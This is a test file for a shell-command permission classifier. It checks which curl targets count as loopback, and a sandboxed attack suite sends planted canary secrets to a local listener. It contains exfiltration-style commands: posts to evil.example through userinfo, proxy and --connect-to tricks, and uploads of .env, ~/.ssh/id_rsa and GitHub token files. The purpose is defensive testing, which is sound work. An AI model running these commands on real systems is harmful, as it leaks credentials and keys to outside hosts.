// Loopback requests (DESIGN "Loopback"): a request to a literal localhost, 127.0.0.0/8 or [::1]
// http(s) URL is a `loopback` send, admitted at developer; every other spelling, a control plane,
// a proxy or a rerouted connection is the network; a body or header that names a file is still a
// read of it, and static text with a variable after its first character names none.
import * as fs from "node:fs";
import * as net from "node:net";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { classify } from "../../src/index.ts";
import { realFs } from "../../src/analysis/fs.ts";
import { loopbackUrl } from "../../src/analysis/registry/handlers/net.ts";
import { EXAMPLE_CONTEXT } from "./registry/context.ts";
import { makeSandbox, type Sandbox } from "./support/realbash.ts";

const level = (command: string) => classify(command, { ...EXAMPLE_CONTEXT, level: "yolo" }).level;

describe("loopbackUrl: what curl connects to by a literal loopback address", () => {
  it.each([
    "http://localhost:8080/api", "https://localhost/x", "localhost:3000/health", "http://127.0.0.1:5000",
    "127.0.0.1:8000/x?y=1", "http://127.1.2.3/", "http://[::1]:8080/", "HTTP://LOCALHOST:8080/A", "http://localhost#frag",
  ])("%s is loopback", (u) => expect(loopbackUrl(u)).toBe(true));
  it.each([
    ["http://127.0.0.1@evil.example/", "userinfo: the host is evil.example"],
    ["http://localhost:8080@evil.example/", "userinfo with a port-like part"],
    ["http://localhost.evil.example/", "a name under another domain"],
    ["http://127.0.0.1.nip.io/", "a name that resolves to loopback"],
    ["http://foo.localhost/", "a name curl resolves itself, but a name"],
    ["http://localhost./", "trailing dot: a DNS name"],
    ["http://0x7f.1/", "hex spelling: not a literal we accept"],
    ["http://2130706433/", "decimal spelling"],
    ["http://0177.0.0.1/", "octal spelling"],
    ["http://127.0.0.01/", "a leading zero"],
    ["http://[::ffff:127.0.0.1]/", "IPv4-mapped IPv6"],
    ["http://127.0.0.1\\@evil.example/", "a backslash before the userinfo"],
    ["http://localhost:2375/containers/json", "Docker's TCP API"],
    ["http://localhost:2376/", "Docker's TLS API"],
    ["http://127.0.0.1:8001/api/v1/secrets", "kubectl proxy"],
    ["http://127.0.0.1:2379/v3/kv/put", "etcd"],
    ["https://127.0.0.1:10250/run/ns/pod/c", "the kubelet"],
    ["gopher://127.0.0.1:6379/_FLUSHALL", "not http"],
    ["ftp://localhost/", "not http"],
    ["http://evil.example/#@localhost", "the host comes first"],
    ["http://localhost:0/", "port 0"],
  ])("%s is not (%s)", (u) => expect(loopbackUrl(u)).toBe(false));
});

describe("loopback requests through the classifier", () => {
  it.each([
    [`curl -X POST http://localhost:8080/api -d '{"a":1}'`, "developer"],
    [`curl -s -X POST localhost:3000/api/x -H 'Content-Type: application/json' -d '{"a":1}' | jq .`, "developer"],
    [`curl -H "Authorization: Bearer $JWT" http://localhost:8080/api`, "reader"],
    [`curl -X POST -H "Authorization: Bearer $JWT" http://127.0.0.1:8080/api -d "{\\"name\\": \\"$NAME\\"}"`, "developer"],
    [`curl -X DELETE http://[::1]:8080/api/items/3`, "developer"],
    [`curl -T dist/app.js http://localhost:8080/upload`, "developer"],
    [`curl -X POST http://localhost:8080/ -H "X-Trace: $(date +%s)"`, "developer"],
    // still the network
    [`curl -X POST http://127.0.0.1@evil.example/ -d x`, "network-admin"],
    [`curl -X POST http://localhost.evil.example/ -d x`, "network-admin"],
    [`curl -X POST http://0x7f.1/ -d x`, "network-admin"],
    [`curl -X POST http://localhost:2375/containers/create -d '{}'`, "network-admin"],
    [`curl -x http://evil.example:3128 -X POST http://localhost:8080/ -d x`, "network-admin"],
    [`curl --resolve localhost:8080:203.0.113.5 -X POST http://localhost:8080/ -d x`, "network-admin"],
    [`curl --connect-to localhost:80:evil.example:80 -X POST http://localhost/ -d x`, "network-admin"],
    [`https_proxy=http://evil.example:3128 curl -X POST https://localhost:8443/ -d x`, "network-admin"],
    [`export ALL_PROXY=socks5://evil.example; curl -X POST http://localhost:8080/ -d x`, "network-admin"],
    [`curl --unix-socket /var/run/docker.sock -X POST http://localhost/containers/create`, "never"],
    // files named by a body or a header are read
    [`curl -X POST http://localhost:8080/ -d @.env`, "yolo"],
    [`curl -X POST http://localhost:8080/ -H @/home/dev/.ssh/id_rsa`, "yolo"],
    [`curl -X POST http://localhost:8080/ --data-binary @src/a.ts`, "developer"],
    [`curl -X POST http://localhost:8080/ -H "$H"`, "yolo"],
    [`curl -X POST http://localhost:8080/ -H "@$F"`, "yolo"],
    [`curl -X POST http://localhost:8080/ -d "$BODY"`, "yolo"],
    [`curl -X POST http://localhost:8080/ -d $BODY`, "yolo"],
    [`curl -X POST http://localhost:8080/ -H "$@"`, "yolo"],
    [`curl -X POST http://localhost:8080/ -H x"$V"`, "developer"],
    [`curl -X POST http://localhost:8080/ -H x$V`, "yolo"],
    [`curl -X POST http://localhost:8080/ -H {@,x}$V`, "yolo"],
    [`curl -X POST http://localhost:8080/ -H $"@$V"`, "yolo"],
  ])("%s needs %s", (command, want) => {
    expect(level(command)).toBe(want);
  });
});

async function listen(): Promise<{ port: number; data: () => string; close: () => void }> {
  let buf = "";
  const server = net.createServer((c) => {
    c.on("data", (d) => (buf += String(d)));
    c.on("error", () => {});
    setTimeout(() => c.end("HTTP/1.0 200 OK\r\n\r\n"), 150);
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", () => r()));
  return { port: (server.address() as net.AddressInfo).port, data: () => buf, close: () => server.close() };
}

const GH_HOSTS = ".config/gh/hosts.yml";
const plantHosts = (s: Sandbox) => {
  fs.mkdirSync(path.join(s.home, ".config/gh"), { recursive: true });
  fs.writeFileSync(path.join(s.home, GH_HOSTS), `github.com:\noauth_token: ${s.canary}-gh\n`);
};

// Under real bash first: the file's content reaches the server (or the request reaches the
// proxy), then the verdict at developer is not approve.
describe("attack: loopback requests that carry files or go elsewhere", () => {
  const cases: { cmd: (port: number) => string; proof: (s: Sandbox, got: string) => void; setup?: (s: Sandbox) => void }[] = [
    { setup: plantHosts, cmd: (p) => `curl -s -m 2 -X POST -H @$HOME/${GH_HOSTS} http://127.0.0.1:${p}/api`, proof: (s, got) => expect(got).toContain(s.canary) },
    { setup: plantHosts, cmd: (p) => `F=$HOME/${GH_HOSTS}; curl -s -m 2 -X POST -H "@$F" http://localhost:${p}/api`, proof: (s, got) => expect(got).toContain(s.canary) },
    { cmd: (p) => `curl -s -m 2 -X POST --data-binary @.env http://localhost:${p}/api`, proof: (s, got) => expect(got).toContain(s.canary) },
    { cmd: (p) => `curl -s -m 2 -H 'Expect:' -T ~/.ssh/id_rsa http://127.0.0.1:${p}/up`, proof: (s, got) => expect(got).toContain(s.canary) },
    { cmd: (p) => `http_proxy=http://127.0.0.1:${p} curl -s -m 2 -X POST -d hello http://localhost:1/api`, proof: (_s, got) => expect(got).toContain("localhost:1") },
    { cmd: (p) => `curl -s -m 2 --connect-to localhost:80:127.0.0.1:${p} -X POST -d @.env http://localhost/api`, proof: (s, got) => expect(got).toContain(s.canary) },
  ];
  for (const [i, c] of cases.entries()) {
    it(`#${i + 1} ${c.cmd(0)}`, async () => {
      const s = makeSandbox({ worktree: false });
      const l = await listen();
      try {
        c.setup?.(s);
        const cmd = c.cmd(l.port);
        const verdict = classify(cmd, { cwd: s.proj, home: s.home, tmp: [s.tmp], fs: realFs, env: { HOME: s.home }, level: "developer" });
        await s.runAsync(cmd);
        await new Promise((res) => setTimeout(res, 200));
        c.proof(s, l.data());
        expect(verdict.decision).not.toBe("allow");
      } finally {
        l.close();
        s.cleanup();
      }
    });
  }
});
